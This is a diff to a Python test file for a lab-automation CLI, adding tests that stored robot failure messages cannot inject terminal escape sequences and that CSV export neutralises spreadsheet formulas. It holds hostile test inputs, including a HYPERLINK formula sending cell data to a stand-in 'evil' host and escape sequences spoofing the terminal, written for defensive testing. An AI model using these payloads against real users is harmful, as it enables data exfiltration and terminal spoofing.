@@ -48,7 +48,9 @@ def test_a_url_that_names_no_file_is_refused_by_every_command(
 ) -> None:
     monkeypatch.chdir(tmp_path)
     small = (CAMPAIGNS / "alloy-emt.yaml").read_text()
-    small = small.replace("size: 8", "size: 2").replace("experiments: 24", "experiments: 2")
+    small = small.replace("size: 8", "size: 2").replace(
+        "experiments: 24", "experiments: 2"
+    )
     (tmp_path / "small.yaml").write_text(small)
     result = loop(*command, "--db", url)
     assert result.exit_code == 2, result.output
@@ -56,3 +58,89 @@ def test_a_url_that_names_no_file_is_refused_by_every_command(
     assert "sqlite:///loop.db" in result.stderr
     assert "Traceback" not in result.output and "internal error" not in result.output
     assert [p.name for p in tmp_path.iterdir()] == ["small.yaml"]
+
+
+# ------------------------------------------------- items 5 and 6: stored text
+HOSTILE = "\x1b[2J\x1b]0;pwned\x07\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\"
+FORMULA = '=HYPERLINK("http://evil/?d="&A1, "click")'
+
+
+@pytest.fixture
+def failed(tmp_path: Path) -> tuple[str, int]:
+    """A real SQLite file (the frozen schema-1 database, upgraded) in which a
+    robot's trial failed with escape sequences in its reason and details."""
+    from loop.records import TrialStatus
+    from loop.storage import Store, migrations
+
+    shutil.copyfile(FROZEN, tmp_path / "old.db")
+    url = f"sqlite:///{tmp_path / 'old.db'}"
+    migrations.upgrade(url)
+    store = Store(url)
+    (trial,) = [t for t in store.trials(NAME) if t.status is TrialStatus.CLAIMED]
+    store.transition(
+        trial.id,
+        [TrialStatus.CLAIMED],
+        TrialStatus.FAILED,
+        reason=f"{FORMULA} {HOSTILE}",
+        details={"job": {"name": HOSTILE, "state": "\x9b31m"}},
+    )
+    store.engine.dispose()
+    return url, trial.id
+
+
+def test_no_control_character_reaches_the_terminal(failed: tuple[str, int]) -> None:
+    url, trial = failed
+    for command in (
+        ["inspect", NAME, "--explain", str(trial)],
+        ["inspect", NAME],
+        ["robots", "list", "--campaign", NAME],
+    ):
+        result = loop(*command, "--db", url)
+        assert result.exit_code == 0, result.output
+        for byte in ("\x1b", "\x07", "\x9b"):
+            assert byte not in result.output, command
+    shown = loop("inspect", NAME, "--explain", str(trial), "--db", url).stdout
+    # what the robot said is still there for the operator to read
+    assert "\\x1b[2J" in "".join(shown.split())
+    assert "pwned" in shown
+
+
+def test_printable_keeps_text_and_writes_out_control_characters() -> None:
+    from loop.cli.common import printable
+
+    assert printable("a\tb\nc é µ 1.5 ‰") == "a\tb\nc é µ 1.5 ‰"
+    assert printable(HOSTILE) == (
+        "\\x1b[2J\\x1b]0;pwned\\x07\\x1b]8;;http://evil\\x1b\\link\\x1b]8;;\\x1b\\"
+    )
+    assert printable("\r\x00\x7f\x9b\u202e") == "\\r\\x00\\x7f\\x9b\\u202e"
+
+
+def test_csv_export_neutralises_formulas_but_keeps_numbers(
+    failed: tuple[str, int],
+) -> None:
+    import csv
+    import io
+
+    from loop.service.export import _cell
+
+    url, trial = failed
+    result = loop("export", NAME, "--format", "csv", "--db", url)
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    row = next(r for r in rows if int(r["id"]) == trial)
+    assert row["failure_reason"] == f"'{FORMULA} {HOSTILE}"
+    for r in rows:
+        for cell in r.values():
+            assert not cell or cell[0] not in "=+@\t\r"
+            if cell.startswith("-"):
+                float(cell)  # only numbers may start with a minus
+    assert [_cell(x) for x in (-1.5, -3, "-3", "@SUM(A1)", "\tx", "+1", "a-b")] == [
+        "-1.5",
+        -3,
+        "'-3",
+        "'@SUM(A1)",
+        "'\tx",
+        "'+1",
+        "a-b",
+    ]
+
